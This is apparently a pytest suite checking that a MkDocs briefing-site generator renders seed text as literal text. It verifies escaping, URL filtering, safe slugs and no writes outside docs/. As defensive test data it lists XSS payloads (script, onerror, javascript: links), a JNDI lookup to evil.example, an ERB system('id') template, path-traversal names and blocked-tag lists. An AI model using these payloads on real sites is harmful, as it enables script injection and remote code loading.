"""Never executed: seed text is data. HTML, Markdown, Jinja and front-matter
syntax in a seed shows as literal text and never becomes markup, never changes
another field, and never writes outside docs/. Checked on HTML parsed with
BeautifulSoup, over hand-written attacks (a real MkDocs build) and hypothesis
text (the same Markdown extensions as mkdocs.yml)."""
from __future__ import annotations

import json
import re

import markdown
import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.meta import apply_meta
from generator.model import SeedError
from generator.parse import parse
from generator.read import parse_seed_bytes
from generator.render import h, md, safe_url
from generator.slug import slugify

from .conftest import FIXTURES, copy_project
from .helpers import EXTENSION_CONFIGS, EXTENSIONS, REGISTRY, front_matter, rendered

ATTACKS = FIXTURES / "shapes" / "attacks"
# Elements a seed could smuggle in; none belongs in a briefing site.
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "img", "base", "style", "math", "form", "frame",
                  "frameset", "applet", "link", "meta", "video", "audio", "source", "textarea"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "background"}
BAD_SCHEME = re.compile(r"^\s*(javascript|data|vbscript|file):", re.I)
GENERATOR_KEYS = {"title", "date", "source", "author", "authors", "original_url", "rights", "boilerplate", "summary",
                  "description", "word_count", "reading_time", "people", "organizations", "places", "topics",
                  "quotes", "seed", "id", "display_date", "type", "source_url", "source_name"}


# Checks on parsed HTML


def injected(soup: BeautifulSoup, theme: bool = False) -> list[str]:
    """Every element, attribute or URL in the page that a seed could have introduced."""
    problems = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            value = value if isinstance(value, str) else " ".join(value)
            if name.lower().startswith("on"):
                problems.append(f"event handler {name}={value!r} on <{element.name}>")
            if name.lower() in URL_ATTRIBUTES and BAD_SCHEME.match(value) and value != "javascript:void(0)":
                problems.append(f"{name}={value!r} on <{element.name}>")
        if element.name in FORBIDDEN_TAGS:
            if theme and _theme_element(element):
                continue
            problems.append(f"<{element.name}> {str(element)[:80]}")
    return problems


def _theme_element(element) -> bool:
    """Material's own head, form and script elements: assets, config, and JSON data."""
    if element.name == "script":
        if element.get("src") or element.get("id") == "__config":
            return True
        if element.get("type") == "application/ld+json":
            json.loads(element.string)  # seed text inside stays JSON
            return "</" not in element.string
        return "alert" not in element.get_text() and "hacked" not in element.get_text()
    if element.name == "form":  # Material's and the home page's search forms
        return not BAD_SCHEME.match(element.get("action", ""))
    if element.name in ("meta", "link"):
        return all(not name.lower().startswith("on") for name in element.attrs) and "http-equiv" not in element.attrs
    return False


def article_of(soup: BeautifulSoup):
    return soup.find("article")


# A real build of the hand-written attacks


@pytest.fixture(scope="module")
def attack_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    project = copy_project(root / "project", sorted(ATTACKS.iterdir()))
    before = sorted(p.relative_to(root) for p in root.rglob("*") if "docs" not in p.parts)
    result = project.mkdocs_build()
    assert result.returncode == 0, result.stderr[-3000:]
    return project, before, root


def briefing_html(project) -> dict[str, BeautifulSoup]:
    """seed name -> parsed HTML of its briefing page."""
    pages = {}
    for page in project.briefing_pages():
        meta = front_matter(page.read_text(encoding="utf-8"))
        html = (project.site / "briefings" / page.stem / "index.html").read_text(encoding="utf-8")
        pages[meta["seed"]] = BeautifulSoup(html, "html.parser")
    return pages


def test_no_page_of_the_built_site_has_injected_markup(attack_site):
    project, _, _ = attack_site
    pages = sorted(project.site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        assert injected(soup, theme=True) == [], page


@pytest.mark.parametrize("seed, literals", [
    ("html_tags.txt", ["<script>alert('lead')</script>", "<img src=x onerror=alert('img')>",
                       "<iframe src=\"javascript:alert('frame')\"></iframe>", "<div onclick=\"alert('block')\">",
                       "<a href=\"javascript:alert('a')\">a link</a>", "<!-- a comment -->",
                       "&lt;script&gt;alert('entity')&lt;/script&gt;", "&amp; and &#60;b&#62;",
                       "<svg onload=alert('svg')>", "<style>body{display:none}</style>"]),
    ("markdown_syntax.txt", ["[here](javascript:alert('link'))", "![pic](data:text/html;base64,",
                             "<javascript:alert('auto')>", "<http://evil.example/auto>", "[ref]: javascript:alert('ref')",
                             "# A heading line in the body", "> A quote line", "- A list item", "* Another item",
                             "+ A third item", "1. A numbered item", "| a | b |", "|---|---|",
                             "indented code with <script>alert('code')</script>", "```html",
                             "{: onclick=\"alert('attr')\" .evil #evil }", "## Heading {: onclick=alert('attr2') }",
                             "!!! danger \"Admonition attempt\"", "??? note \"Details attempt\"", "=== \"Tab attempt\"",
                             "*emphasis* _under_ **strong** ~~strike~~ `code` ^^ins^^ ==mark== [TOC] [[wiki]]",
                             "***", "--- title: hacked ---", "a backslash \\ end.", "--8<-- \"home.md\"",
                             ";--8<-- \"../mkdocs.yml\""]),
    ("jinja_markers.txt", ["{{ config }}", "{{ page.meta }}", "{% include \"base.html\" %}", "{# a comment #}",
                           "${jndi:ldap://evil.example/a}", "<%= system(\"id\") %>", "{{ \"a\" * 100000 }}",
                           "{%- raw -%}", "{% macro x() %}{% endmacro %}", "%}{{."]),
    ("hostile_front_matter.md", ["--- title: hacked author: hacked ---"]),
])
def test_attacks_show_as_literal_text(attack_site, seed, literals):
    project, _, _ = attack_site
    text = " ".join(article_of(briefing_html(project)[seed]).get_text(" ").split())
    for literal in literals:
        assert " ".join(literal.split()) in text, literal


@pytest.mark.parametrize("seed", ["html_tags.txt", "markdown_syntax.txt", "jinja_markers.txt", "hostile_front_matter.md"])
def test_seed_text_never_becomes_structure(attack_site, seed):
    article = article_of(briefing_html(attack_site[0])[seed])
    for tag in ("blockquote", "ol", "table", "pre", "code", "hr", "em", "del", "ins", "mark", "details", "h3", "h4",
                "h5", "h6", "b", "i", "svg", "iframe", "img", "script", "style"):
        assert article.find(tag) is None, f"<{tag}> from {seed}"
    assert len(article.find_all("h1")) == 1
    assert [h2.get_text(strip=True) for h2 in article.find_all("h2")] in ([], ["In this briefing"])
    assert len(article.select(".admonition")) == 1  # the summary
    assert not article.select(".tabbed-set")
    for link in article.find_all("a"):
        href = link["href"]
        assert href.startswith(("../", "#", "https://", "http://")), href
    for element in article.find_all(True):
        assert not element.get("id", "").startswith("evil") and "evil" not in element.get("class", [])


def test_front_matter_stays_the_generators(attack_site):
    project, _, _ = attack_site
    pages = project.briefing_pages()
    assert len(pages) >= 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert text.startswith("---\n")
        meta = front_matter(text)
        assert set(meta) == GENERATOR_KEYS, page.name
        assert all("hacked" not in str(value) for value in meta.values()), page.name


def test_hostile_front_matter_values_are_text_and_unsafe_urls_are_dropped(attack_site):
    project, _, _ = attack_site
    soup = briefing_html(project)["hostile_front_matter.md"]
    assert soup.find("h1").get_text(strip=True) == "<img src=x onerror=alert('fm-title')> Editors' title"
    assert soup.title.get_text().startswith("<img src=x onerror=alert('fm-title')> Editors' title")
    assert "javascript:" not in str(article_of(soup).find("aside") or "")
    assert all(not a["href"].startswith("javascript:alert") for a in soup.find_all("a", href=True))


def test_nothing_is_written_outside_docs_and_slugs_are_safe(attack_site):
    project, before, root = attack_site
    after = sorted(p.relative_to(root) for p in root.rglob("*") if "docs" not in p.parts)
    new = {p for p in set(after) - set(before) if p.parts[1] != "site"}  # and no .cache: the build cache is not in the project
    assert new == set(), new
    for page in (project.docs / "briefings").iterdir():
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*\.md", page.name), page.name
        assert page.resolve().parent == (project.docs / "briefings").resolve()
    assert (project.docs / "briefings" / "tmp-pwned.md").exists()  # the slug override, made safe
    # The two seeds whose first line is a path (one with an odd file name) are two pages, inside
    # briefings/ with safe names (checked above), whichever line the reader took as the headline.
    seeds = [front_matter(p.read_text(encoding="utf-8"))["seed"] for p in project.briefing_pages()]
    assert sorted(s for s in seeds if s in ("path_traversal.txt", "%2e%2e%2fescape.txt")) == \
        ["%2e%2e%2fescape.txt", "path_traversal.txt"]


# The escaping functions


@pytest.mark.parametrize("text", [
    "# h", "  ## h", "> q", "- l", "+ l", "* l", "1. n", "12) n", "!!! note", "??? note", "=== \"t\"", "| a |",
    "--- x", "***", "```", "~~~", "<b>", "&amp;", "[a](b)", "![a](b)", "{: .x }", "\\", "--8<-- \"a\"", "a  \nb",
    "\x02wzxhzdk:0\x03", "[TOC]", "*a*", "_a_", "`a`", "^^a^^", "==a==", "~~a~~",
])
def test_md_output_renders_back_to_the_same_text(text):
    html = markdown.markdown(md(text), extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS)
    soup = BeautifulSoup(html, "html.parser")
    assert [e.name for e in soup.find_all(True)] == ["p"]
    expected = " ".join(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", text).split())
    assert soup.get_text() == expected


@pytest.mark.parametrize("text", ['"><script>x</script>', "' onmouseover='x", "a & b < c > d"])
def test_h_is_safe_in_element_content_and_attributes(text):
    soup = BeautifulSoup(f'<p title="{h(text)}">{h(text)}</p>', "html.parser")
    assert [e.name for e in soup.find_all(True)] == ["p"]
    assert soup.p["title"] == text and soup.p.get_text() == text


@pytest.mark.parametrize("url, safe", [
    ("https://example.com/a?b=c", True), ("http://example.com", True), ("javascript:alert(1)", False),
    ("JaVaScRiPt:alert(1)", False), (" javascript:alert(1)", False), ("java\tscript:alert(1)", False),
    ("data:text/html,x", False), ("vbscript:x", False), ("//evil.example", False), ("/relative", False),
    ("https:///nohost", False), ("", False),
])
def test_safe_url_keeps_only_web_addresses(url, safe):
    assert bool(safe_url(url)) == safe


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_slugs_are_safe_ascii(text):
    slug = slugify(text)
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slug) and len(slug) <= 60


# Hypothesis: random seed text through the whole pipeline to HTML


ALLOWED_TAGS = {"h1", "h2", "p", "time", "span", "div", "figure", "figcaption", "aside", "dl", "dt", "dd", "a",
                "strong", "nav", "ul", "li", "details", "summary"}  # details: the attribution's page furniture
SNIPPETS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=x>", "[x](javascript:alert(1))",
            "![x](data:text/html,x)", "{{ config }}", "{% raw %}", "{: onclick=alert(1) }", "---", "title: hacked",
            "# ", "## ", "> ", "- ", "* ", "+ ", "1. ", "| a | b |", "|---|", "    ", "```", "~~~", "!!! note ",
            "??? note ", "=== \"t\" ", "--8<-- \"x\"", "<!--", "-->", "&amp;", "&#60;", "\\", "*", "_", "`", "[", "]",
            "(", ")", "<", ">", "|", ":", "~", "^", "=", "\t", "  ", "Visual China", "Original: http://x.io/a",
            "Statement: ", "【By A, B】", "By Jane Doe", "WASHINGTON, July 14 (Reuters) - "]
WORDS = st.text(st.characters(codepoint=None, categories=["L", "N", "P", "S", "Zs"]) if False else
                st.characters(whitelist_categories=["L", "N", "P", "S", "Zs"]), min_size=1, max_size=12)
LINES = st.lists(st.one_of(st.sampled_from(SNIPPETS), WORDS), min_size=1, max_size=8).map("".join)
SEEDS = st.lists(st.one_of(LINES, st.just("")), min_size=1, max_size=12).map("\n".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SEEDS)
def test_random_seed_text_never_becomes_markup(text):
    result = rendered(text)
    if result is None:
        return
    meta, soup, article = result
    assert set(meta) == GENERATOR_KEYS and meta["title"] == article.title
    assert injected(soup) == []
    assert {e.name for e in soup.find_all(True)} <= ALLOWED_TAGS
    for link in soup.find_all("a"):
        assert link["href"].startswith("../") or link["href"] == safe_url(article.original_url)
    # Each body paragraph is one <p> holding exactly its text (they come before "In this briefing").
    paragraphs = []
    for element in soup.find_all(["p", "h2"], recursive=False):
        if element.name == "h2":
            break
        if not element.get("class"):
            paragraphs.append(element.get_text())
    squashed = [" ".join(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", p).split()) for p in article.paragraphs]
    assert paragraphs == squashed


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=3000), st.sampled_from(["fuzz.txt", "fuzz.md"]))
def test_random_bytes_never_crash_read_and_parse(raw, name):
    try:
        seed = parse_seed_bytes(raw, name)
    except SeedError as error:
        assert error.diagnostic.file == name and error.diagnostic.fix
        return
    article = apply_meta(parse(seed, REGISTRY))
    assert isinstance(article.title, str)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=1500), st.sampled_from(["fuzz.txt", "fuzz.md"]))
def test_random_text_never_crashes_read_and_parse(text, name):
    try:
        seed = parse_seed_bytes(("---\n" if name.endswith(".md") and text[:1] == "t" else "").encode()
                                + text.encode("utf-8", "surrogatepass"), name)
    except SeedError:
        return
    article = apply_meta(parse(seed, REGISTRY))
    assert isinstance(article.title, str) and isinstance(article.summary, str)
